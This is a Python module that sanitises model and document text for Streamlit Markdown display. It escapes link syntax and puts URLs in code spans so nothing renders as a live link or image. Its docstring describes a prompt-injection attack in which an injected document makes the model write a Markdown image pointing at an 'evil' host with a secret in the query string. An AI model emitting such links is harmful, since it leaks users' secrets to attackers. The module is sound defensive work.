r"""Model and document text as Markdown that can neither fetch nor link anywhere.

A prompt-injected document can make the model write ``![x](https://evil/?q=<secret>)``; shown
as Markdown, the browser would fetch that URL by itself and leak the secret. Plain text links
too: Streamlit renders GitHub-flavoured Markdown, which turns ``www.`` and ``https://`` words
and e-mail addresses (``kim@corp.example``, even with ``@`` and ``.`` escaped) into live links
(``mailto:`` for addresses).

The trade-off: rather than parse Markdown (and trust that our parser agrees with the browser's
on every edge case; markdown-it and remark already disagree on whether a fence or a table wins),
we make the text safe under *any* reading. We escape the few characters that every link, image
and raw-HTML form needs (``[``, ``]``, ``<`` and ``\``) everywhere, and put each URL or address
in a code span whose backtick fence is longer than any backtick run before it in the paragraph,
so nothing can pair with it and pull the URL back out. Emphasis, lists, headings and tables
still render.

Code blocks are the price: escaping them too would show stray backslashes, so
:func:`split_code_blocks` cuts a finished answer into prose (shown through this module) and code
(shown with ``st.code``, never as Markdown). :class:`MarkdownGuard` does the escaping
incrementally for a streamed answer, emitting text only up to a point that later text cannot
change (the last space, or the end of a line).
"""

from __future__ import annotations

import re
from dataclasses import dataclass

# Characters that open links, images, reference definitions, autolinks and raw HTML, plus the
# escape character itself (so that a model's own "\[" cannot cancel our escape).
_LINK_SYNTAX = re.compile(r"([\\\[\]<])")
# Everything CommonMark lets a backslash escape: for text that must render literally.
_ASCII_PUNCTUATION = re.compile(r"([!-/:-@\[-`{-~])")
# Anything GFM would link in a token: "scheme://", its "www." form, an e-mail address
# ("name@domain.tld"; "mailto:" and "xmpp:" links need one too).
_URL = re.compile(r"(?i)(?:[a-z][a-z0-9+.-]*://|www\.|[\w.+-]@[\w-]+\.[\w-])")
_URL_MARK = re.compile(r"(?i)(://|www\.|@)")
_BACKTICKS = re.compile(r"`+")
_SPACE = re.compile(r"(\s+)")
_FENCE = re.compile(r"^(`{3,}|~{3,})([^`\n]*)$")
_ZERO_WIDTH_SPACE = "\u200b"


def _max_run(text: str) -> int:
    return max((len(run) for run in _BACKTICKS.findall(text)), default=0)


def _unlinkable(token: str) -> str:
    """A token shown literally, its URL or address broken by an invisible space (no link)."""
    broken = _URL_MARK.sub(lambda m: m.group(1)[:-1] + _ZERO_WIDTH_SPACE + m.group(1)[-1], token)
    return _ASCII_PUNCTUATION.sub(r"\\\1", broken)


def literal_markdown(text: str) -> str:
    """Text that renders exactly as written (file names, passage snippets), nothing linked.

    Every punctuation character is escaped, so the only code spans are the ones put around
    URLs here, and nothing can pair with their backticks.
    """
    out = []
    for part in _SPACE.split(text):
        if _URL.search(part) and "|" not in part:
            fence = "`" * (_max_run(part) + 1)
            pad = " " if part.startswith("`") or part.endswith("`") else ""
            out.append(f"{fence}{pad}{part}{pad}{fence}")
        else:
            out.append(_unlinkable(part))
    return "".join(out)


class MarkdownGuard:
    """Streaming sanitizer: ``feed`` text as it arrives, ``finish`` at the end.

    A URL token that itself contains a backtick (which could end our code span early) or a
    pipe (which splits table cells, code spans included) is shown literally with its ``://``
    broken instead of in a code span.

    Example:
        .. code-block:: python

            guard = MarkdownGuard()
            safe = "".join(guard.feed(piece) for piece in pieces) + guard.finish()

    """

    def __init__(self) -> None:
        self._pending = ""  # text not yet emitted (always within the current line)
        self._line_has_text = False  # the emitted part of the current line is not blank
        self._longest_run = 0  # longest backtick run emitted in the current paragraph

    def feed(self, text: str) -> str:
        """Sanitize what can be decided now; hold back the rest."""
        self._pending += text
        out: list[str] = []
        while "\n" in self._pending:
            line, self._pending = self._pending.split("\n", 1)
            if not self._line_has_text and not line.strip():
                self._longest_run = 0  # a blank line ends the paragraph; no code span crosses it
            out.append(self._words(line) + "\n")
            self._line_has_text = False
        cut = max(self._pending.rfind(" "), self._pending.rfind("\t"))
        if cut >= 0:  # a token is complete once whitespace follows it
            head, self._pending = self._pending[: cut + 1], self._pending[cut + 1 :]
            self._line_has_text = self._line_has_text or bool(head.strip())
            out.append(self._words(head))
        return "".join(out)

    def finish(self) -> str:
        """Emit whatever is held back (call once, at the end of the stream)."""
        rest, self._pending = self._pending, ""
        return self._words(rest)

    def _words(self, text: str) -> str:
        out = []
        for part in _SPACE.split(text):
            if not part or part.isspace():
                out.append(part)
            elif not _URL.search(part):
                escaped = _LINK_SYNTAX.sub(r"\\\1", part)
                self._longest_run = max(self._longest_run, _max_run(escaped))
                out.append(escaped)
            elif "`" in part or "|" in part:
                out.append(_unlinkable(part))
            else:
                self._longest_run += 1
                fence = "`" * self._longest_run
                out.append(f"{fence}{part}{fence}")
        return "".join(out)


def safe_markdown(text: str) -> str:
    """A whole text through :class:`MarkdownGuard`."""
    guard = MarkdownGuard()
    return guard.feed(text) + guard.finish()


@dataclass(frozen=True)
class Block:
    """A run of prose (``language`` None) or the body of a fenced code block."""

    text: str
    language: str | None = None


def split_code_blocks(text: str) -> list[Block]:
    """Cut text at fenced code blocks that start at column 0 (others stay in the prose).

    Whatever this decides is safe: code is shown as plain text, prose through
    :func:`safe_markdown`; a fence it misses only costs the code's looks.
    """
    blocks: list[Block] = []
    prose: list[str] = []
    lines = text.split("\n")
    index = 0
    while index < len(lines):
        opening = _FENCE.match(lines[index])
        if opening is None:
            prose.append(lines[index])
            index += 1
            continue
        marker = opening.group(1)
        body: list[str] = []
        index += 1
        while index < len(lines):
            closing = lines[index].strip()
            if closing.startswith(marker) and set(closing) == {marker[0]}:
                index += 1
                break
            body.append(lines[index])
            index += 1
        if prose:
            blocks.append(Block("\n".join(prose)))
            prose = []
        blocks.append(Block("\n".join(body), opening.group(2).strip().split(" ")[0] or "text"))
    if prose:
        blocks.append(Block("\n".join(prose)))
    return blocks
